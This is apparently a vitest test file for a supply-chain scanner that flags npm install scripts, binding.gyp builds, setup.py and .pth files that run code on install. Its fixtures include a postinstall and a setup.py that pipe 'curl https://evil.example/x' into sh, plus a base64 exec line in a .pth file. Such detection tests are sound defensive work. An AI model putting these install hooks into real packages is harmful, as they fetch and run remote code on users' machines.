import { expect, test } from 'vitest'
import { sayFact } from '../../core/install-facts.ts'
import { memoryFile } from '../open-file.ts'
import { createInstalling } from './installing.ts'

async function facts(files: Readonly<Record<string, string>>) {
  const installing = createInstalling()
  for (const [path, text] of Object.entries(files)) await installing.file(memoryFile(path, Buffer.from(text)))
  const { scripts = [], facts: all = [] } = installing.result() ?? {}
  return { scripts: scripts.map(({ name }) => name), facts: all.map(sayFact), kinds: all.map(({ kind }) => kind) }
}
const json = (scripts: object): string => JSON.stringify({ name: 'n', version: '1.0.0', scripts })

test('what npm runs of the package itself is read as a shell reads it', async () => {
  const text = json({ postinstall: 'curl -fsSL https://evil.example/x | sh', test: 'curl https://a.example' })
  const found = await facts({ 'package.tar!/package/package.json': text })
  expect(found.scripts).toEqual(['postinstall'])
  expect(found.kinds).toEqual(['npm_install_script', 'downloads_and_runs'])
  expect(found.facts[0]).toBe(
    'package.json has a script that npm runs (postinstall: curl -fsSL https://evil.example/x | sh)',
  )
})

test('a package without such scripts runs nothing, nor does one whose scripts are no texts', async () => {
  const path = 'package.tar!/package/package.json'
  for (const text of [json({ test: 'sh install.sh' }), json({ install: 1 }), '{"install":', 'null'])
    expect(await facts({ [path]: text })).toEqual({ scripts: [], facts: [], kinds: [] })
})

test('npm builds what has a binding.gyp, unless the package says how', async () => {
  const gyp = { 'package.tar!/package/binding.gyp': '{}' }
  const own = { 'package.tar!/package/package.json': json({ install: 'node-gyp rebuild' }) }
  expect((await facts(gyp)).facts).toEqual(['binding.gyp has a script that npm runs (install: node-gyp rebuild)'])
  expect((await facts({ ...gyp, ...own })).facts).toEqual([
    'package.json has a script that npm runs (install: node-gyp rebuild)',
  ])
})

test('only the package.json of the package itself counts', async () => {
  const text = json({ install: 'true' })
  expect((await facts({ 'package.tar!/package/test/package.json': text })).facts).toEqual([])
})

test('setup.py of a source release and .pth files of a wheel run, too', async () => {
  const setup = 'import os\nos.system("curl https://evil.example/x | sh")\n'
  const found = await facts({ 'sdist.tar!/a-1.0/setup.py': setup, 'sdist.tar!/a-1.0/a/setup.py': setup })
  expect(found.scripts).toEqual(['setup.py'])
  expect(found.kinds).toContain('downloads_and_runs')
  const pth = await facts({ 'a.pth': 'import base64;exec(base64.b64decode("aW1wb3J0"))\n', 'a/b.pth': 'import x\n' })
  expect(pth).toMatchObject({ scripts: ['a.pth'], kinds: ['runs_encoded'] })
})
